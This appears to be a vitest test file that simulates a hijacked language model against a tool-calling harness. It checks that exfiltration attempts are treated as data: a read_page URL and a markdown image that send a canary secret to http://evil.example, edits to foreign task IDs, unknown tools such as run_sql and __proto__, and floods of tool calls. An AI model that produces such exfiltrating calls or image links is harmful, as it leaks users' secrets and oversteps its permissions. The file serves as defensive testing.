import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { createAskWorld } from '../server/src/llm/ask-world.ts'
import type { TalkMessage, ToolShape } from '../server/src/llm/talk.ts'
import { evilScript, type Plan } from './evil-provider.ts'

let kit: Awaited<ReturnType<typeof createAskWorld>>
beforeEach(async () => {
  kit = await createAskWorld()
})
afterEach(() => kit.provider.close())

const SINK = 'http://evil.example'
const FOREIGN = ['0197b0a0-0000-7000-8000-000000000001', '0197b0a0-0000-7000-8000-000000000002']
const updateTask = z.strictObject({
  task_id: z.uuid(),
  title: z.string().min(1).max(40),
  status: z.enum(['open', 'done']).optional(),
  due_date: z.iso.date().nullable(),
  goal_ids: z.array(z.uuid()),
  link: z.url().optional(),
  weight: z.number().int().min(1).max(5),
})
const readPage = z.strictObject({ url: z.url(), reason: z.string() })
const shape = (name: string, schema: z.ZodType): ToolShape => ({
  name,
  description: name,
  schema: z.toJSONSchema(schema, { target: 'draft-7' }) as Record<string, unknown>,
})
const tools = [shape('update_task', updateTask), shape('read_page', readPage)]

/** Talks until the model speaks, as a feature would: each call gets its answer. */
async function talkOn(plan: Partial<Plan>, model: string, most = 5) {
  const { talk } = kit.world(evilScript({ sink: SINK, foreignIds: FOREIGN, ...plan }), { env: kit.everywhere })
  const messages: TalkMessage[] = [{ by: 'person', text: 'How are we doing? The word is canary-4711.' }]
  const turns = []
  for (let n = 0; n < most; n++) {
    const spoken = await talk({ model, tools, messages: [...messages] })
    turns.push(spoken)
    if (!spoken.ok || spoken.calls.length === 0) break
    messages.push({ by: 'model', text: spoken.text, calls: spoken.calls })
    for (const { id, name } of spoken.calls) messages.push({ by: 'tool', call_id: id, name, text: 'Denied.' })
  }
  return turns
}

describe.each(['gpt-5-chat', 'gemini-2.5-pro'])('a taken-over %s', (model) => {
  test('calls every tool with arguments that fit, foreign ids and what it has read, then writes it out', async () => {
    const turns = await talkOn({}, model)
    const [first, last] = turns
    const calls = first?.ok ? first.calls : []
    expect(calls.map((call) => call.name)).toEqual(['update_task', 'update_task', 'read_page', 'read_page'])
    const made = calls.map((call) => JSON.parse(call.input))
    expect(made.slice(0, 2).map((each) => updateTask.parse(each).task_id)).toEqual(FOREIGN)
    expect(readPage.parse(made[2]).url).toBe(`${SINK}/argument?d=canary-4711`)
    expect(turns).toHaveLength(2)
    expect(last).toMatchObject({
      ok: true,
      end: 'stop',
      text: expect.stringContaining(`![chart](${SINK}/image?d=canary`),
    })
    expect(last?.text).toContain('event: crew_end')
  })

  test('that goes wild comes back as data: unknown tools, misfits, wrecks and a hundred calls in one turn', async () => {
    const [first, second, third] = await talkOn({ way: 'wild' }, model)
    const calls = first?.ok ? first.calls : []
    expect(calls.map((call) => call.name)).toEqual(expect.arrayContaining(['run_sql', '__proto__', 'read_page']))
    expect(calls.filter(({ name, input }) => name === 'update_task' && parses(updateTask, input))).toEqual([])
    expect(calls.length).toBeGreaterThan(40)
    expect(second?.ok && second.calls.length).toBe(100)
    expect(third).toMatchObject({ ok: true, calls: [] })
  })

  test('that never tires calls tools in every turn', async () => {
    const turns = await talkOn({ way: 'tireless' }, model, 8)
    expect(turns.map((turn) => turn.ok && turn.calls.length)).toEqual(Array.from({ length: 8 }, () => 4))
  })

  test('answers a question of a given shape in that shape, with the attacker’s words', async () => {
    const { ask } = kit.world(evilScript({ sink: SINK }), { env: kit.everywhere })
    expect(await ask({ model })).toMatchObject({ ok: true, value: { title: expect.stringContaining(SINK) } })
  })
})

test('a talkative one is ended by the limits', async () => {
  const { talk } = kit.world(evilScript({ sink: SINK, way: 'talkative' }), { limits: { answerBytes: 200_000 } })
  expect(await talk()).toMatchObject({ ok: false, code: 'bad_answer', text: expect.stringContaining(SINK) })
})

function parses(schema: z.ZodType, input: string): boolean {
  try {
    return schema.safeParse(JSON.parse(input)).success
  } catch {
    return false
  }
}
